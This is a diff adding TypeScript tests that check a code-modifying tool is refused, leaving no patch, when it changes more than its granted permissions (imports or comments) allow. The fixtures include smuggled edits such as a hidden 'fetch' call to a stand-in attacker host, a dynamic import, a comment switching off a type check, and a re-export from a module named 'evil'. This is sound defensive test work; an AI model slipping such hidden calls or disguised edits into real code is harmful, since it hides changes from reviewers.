@@ -56,6 +56,33 @@ describe("refused, and nothing of it is left", () => {
   });
 });
 
+describe("a tool that may change imports, as the skills for imports may, is refused", () => {
+  const imports: readonly Action[] = ["modify_text", "modify_imports"];
+  const others = lies.filter(({ action }) => action === "change_syntax_tree" || action === "modify_comments" || action === "modify_docstrings");
+
+  test.each(named(others))("%s", async (_name, lie) => {
+    const { result, patch } = await run(lie, imports);
+    expect([result.outcome, result.reason, patch.length]).toEqual(["refused", expect.stringContaining(`\`${lie.action}\``), 0]);
+  });
+
+  test.each([
+    ["code hidden behind the imports", "import type { A } from \"a\";\nfetch(\"https://evil.example\");\nexport type B = A;\n", "`change_syntax_tree`"],
+    ["a module that is loaded by a call, not imported", "const { A } = await import(\"a\");\nexport type B = A;\n", "`change_syntax_tree`"],
+    ["a check that is switched off above an import", "// @ts-expect-error\nimport type { A } from \"a\";\nexport type B = A;\n", "`modify_comments`"],
+    ["what is given out", "import type { A } from \"a\";\nexport type { A as B } from \"evil\";\n", "`change_syntax_tree`"],
+  ])("%s", async (_name, after, action) => {
+    const { result, patch } = await run({ path: "src/main.ts", after }, imports);
+    expect([result.outcome, result.reason, patch.length]).toEqual(["refused", expect.stringContaining(action), 0]);
+  });
+});
+
+describe("a tool that may change comments, as licence-header may, is refused", () => {
+  test.each(named(lies.filter(({ action }) => action === "change_syntax_tree" || action === "modify_imports")))("%s", async (_name, lie) => {
+    const { result, patch } = await run(lie, ["modify_text", "modify_comments"]);
+    expect([result.outcome, result.reason, patch.length]).toEqual(["refused", expect.stringContaining(`\`${lie.action}\``), 0]);
+  });
+});
+
 describe("the control: what the contract allows is the change that is made", () => {
   test.each(named(lies))("%s", async (_name, lie) => {
     const { result, contents } = await run(lie, ["modify_text", "change_syntax_tree", lie.action]);
